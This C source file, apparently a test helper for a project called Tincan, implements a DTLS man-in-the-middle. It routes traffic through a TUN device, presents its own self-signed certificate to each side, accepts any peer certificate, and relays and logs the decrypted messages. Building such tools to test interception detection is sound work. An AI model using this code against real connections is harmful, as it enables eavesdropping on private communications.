/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Somebody who owns the path between two sides, and sits in the middle of their DTLS.
 *
 *   attacker DEVICE
 *
 * It makes a TUN device, through which the packets between the two are to be led, passes on what is
 * STUN, and ends what is DTLS: towards each side it shows a certificate of its own, and what one
 * side says it says to the other. Each message that it could read is a line on standard output. */
#define G_LOG_DOMAIN "tincan-attacker"

#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <glib.h>
#include <linux/if_tun.h>
#include <net/if.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <openssl/ssl.h>
#include <openssl/x509.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define MAX_PACKET 2048
#define HEADERS 28
#define DTLS_MTU 1200

/* Our end towards one side. */
typedef struct
{
  SSL          *ssl;
  guint8        headers[HEADERS]; /* of what that side sends: IPv4, UDP */
  const guint8 *in;               /* the datagram that is being read */
  int           in_length;
} End;

static int tun = -1;
static SSL_CTX *context;
static End ends[2]; /* towards the DTLS client, towards the DTLS server */
static gboolean begun;

static guint16
ip_checksum (const guint8 *header)
{
  guint32 sum = 0;

  for (guint i = 0; i < 20; i += 2)
    sum += (guint32) header[i] << 8 | header[i + 1];
  while (sum >> 16 != 0)
    sum = (sum & 0xffff) + (sum >> 16);
  return (guint16) ~sum;
}

/* To the side that @end faces, as if the other one had sent it. */
static int
write_cb (BIO        *bio,
          const char *data,
          int         length)
{
  const End *end = BIO_get_data (bio);
  guint8 packet[MAX_PACKET] = { 0x45 };
  guint16 total = HEADERS + length;
  guint16 sum;

  if (total > sizeof packet)
    return -1;
  packet[2] = total >> 8;
  packet[3] = total & 0xff;
  packet[8] = 64;
  packet[9] = IPPROTO_UDP;
  memcpy (packet + 12, end->headers + 16, 4);
  memcpy (packet + 16, end->headers + 12, 4);
  sum = ip_checksum (packet);
  packet[10] = sum >> 8;
  packet[11] = sum & 0xff;
  memcpy (packet + 20, end->headers + 22, 2);
  memcpy (packet + 22, end->headers + 20, 2);
  packet[24] = (length + 8) >> 8;
  packet[25] = (length + 8) & 0xff;
  memcpy (packet + HEADERS, data, length);
  return write (tun, packet, total) == total ? length : -1;
}

static int
read_cb (BIO  *bio,
         char *data,
         int   size)
{
  End *end = BIO_get_data (bio);
  int length = MIN (size, end->in_length);

  BIO_clear_retry_flags (bio);
  if (length == 0)
    {
      BIO_set_retry_read (bio);
      return -1;
    }
  memcpy (data, end->in, length);
  end->in_length = 0;
  return length;
}

static long
ctrl_cb (BIO  *bio,
         int   command,
         long  number,
         void *pointer)
{
  return command == BIO_CTRL_FLUSH ? 1 : 0;
}

static int
verify_cb (int             preverify,
           X509_STORE_CTX *store)
{
  return 1;
}

static void
make_context (void)
{
  EVP_PKEY *key = EVP_EC_gen ("P-256");
  X509 *certificate = X509_new ();

  context = SSL_CTX_new (DTLS_method ());
  X509_gmtime_adj (X509_getm_notBefore (certificate), 0);
  X509_gmtime_adj (X509_getm_notAfter (certificate), 86400);
  X509_set_pubkey (certificate, key);
  X509_sign (certificate, key, EVP_sha256 ());
  if (SSL_CTX_use_certificate (context, certificate) != 1 ||
      SSL_CTX_use_PrivateKey (context, key) != 1 ||
      SSL_CTX_set_tlsext_use_srtp (context, "SRTP_AES128_CM_SHA1_80:SRTP_AES128_CM_SHA1_32") != 0)
    g_error ("OpenSSL does not play along");
  SSL_CTX_set_verify (context, SSL_VERIFY_PEER, verify_cb);
}

static void
open_end (End     *end,
          gboolean is_server)
{
  BIO_METHOD *method = BIO_meth_new (BIO_get_new_index () | BIO_TYPE_SOURCE_SINK, "packets");
  BIO *bio;

  BIO_meth_set_write (method, write_cb);
  BIO_meth_set_read (method, read_cb);
  BIO_meth_set_ctrl (method, ctrl_cb);
  bio = BIO_new (method);
  BIO_set_data (bio, end);
  BIO_set_init (bio, 1);
  end->ssl = SSL_new (context);
  SSL_set_bio (end->ssl, bio, bio);
  SSL_set_options (end->ssl, SSL_OP_NO_QUERY_MTU);
  SSL_set_mtu (end->ssl, DTLS_MTU);
  if (is_server)
    SSL_set_accept_state (end->ssl);
  else
    SSL_set_connect_state (end->ssl);
}

/* Reads what @from says, if it is secured by now, and says it to @to. */
static void
turn_over (End *from,
           End *to)
{
  char message[MAX_PACKET];
  int length;

  if (!SSL_is_init_finished (from->ssl))
    SSL_do_handshake (from->ssl);
  while (SSL_is_init_finished (from->ssl) && SSL_is_init_finished (to->ssl) &&
         (length = SSL_read (from->ssl, message, sizeof message)) > 0)
    {
      /* What Tincan says is JSON. */
      printf ("read %d%s\n", length,
              memmem (message, length, "\"type\"", 6) != NULL ? " words" : "");
      fflush (stdout);
      SSL_write (to->ssl, message, length);
    }
}

/* The one who speaks first is the client. */
static void
take_dtls (guint8 *packet,
           int     length)
{
  gboolean from_client;
  End *from;

  if (!begun)
    {
      begun = TRUE;
      memcpy (ends[0].headers, packet, HEADERS);
      memcpy (ends[1].headers, packet, HEADERS);
      /* Towards the server: as if it had sent the other way round. */
      memcpy (ends[1].headers + 12, packet + 16, 4);
      memcpy (ends[1].headers + 16, packet + 12, 4);
      memcpy (ends[1].headers + 20, packet + 22, 2);
      memcpy (ends[1].headers + 22, packet + 20, 2);
      open_end (&ends[0], TRUE);
      open_end (&ends[1], FALSE);
    }

  from_client = memcmp (packet + 12, ends[0].headers + 12, 4) == 0;
  from = &ends[from_client ? 0 : 1];
  memcpy (from->headers, packet, HEADERS);
  from->in = packet + HEADERS;
  from->in_length = length - HEADERS;
  SSL_do_handshake (ends[1].ssl);
  turn_over (from, &ends[from_client ? 1 : 0]);
}

static void
open_tun (const char *device)
{
  struct ifreq request = { .ifr_flags = IFF_TUN | IFF_NO_PI };

  g_strlcpy (request.ifr_name, device, sizeof request.ifr_name);
  tun = open ("/dev/net/tun", O_RDWR | O_CLOEXEC);
  if (tun < 0 || ioctl (tun, TUNSETIFF, &request) != 0)
    g_error ("Cannot make a TUN device: %s", g_strerror (errno));
}

int
main (int   argc,
      char *argv[])
{
  if (argc != 2)
    {
      g_printerr ("usage: %s DEVICE\n", argv[0]);
      return 2;
    }

  make_context ();
  open_tun (argv[1]);
  printf ("READY\n");
  fflush (stdout);
  while (TRUE)
    {
      struct pollfd wait = { .fd = tun, .events = POLLIN };
      guint8 packet[MAX_PACKET];
      ssize_t length;

      if (poll (&wait, 1, 200) == 0)
        {
          for (guint i = 0; begun && i < 2; i++)
            DTLSv1_handle_timeout (ends[i].ssl);
          continue;
        }
      length = read (tun, packet, sizeof packet);
      if (length > HEADERS && packet[9] == IPPROTO_UDP && packet[28] >= 20 && packet[28] <= 63)
        take_dtls (packet, length);
      else if (length > 0 && write (tun, packet, length) < 0)
        g_printerr ("lost a packet: %s\n", g_strerror (errno));
    }
  return 0;
}
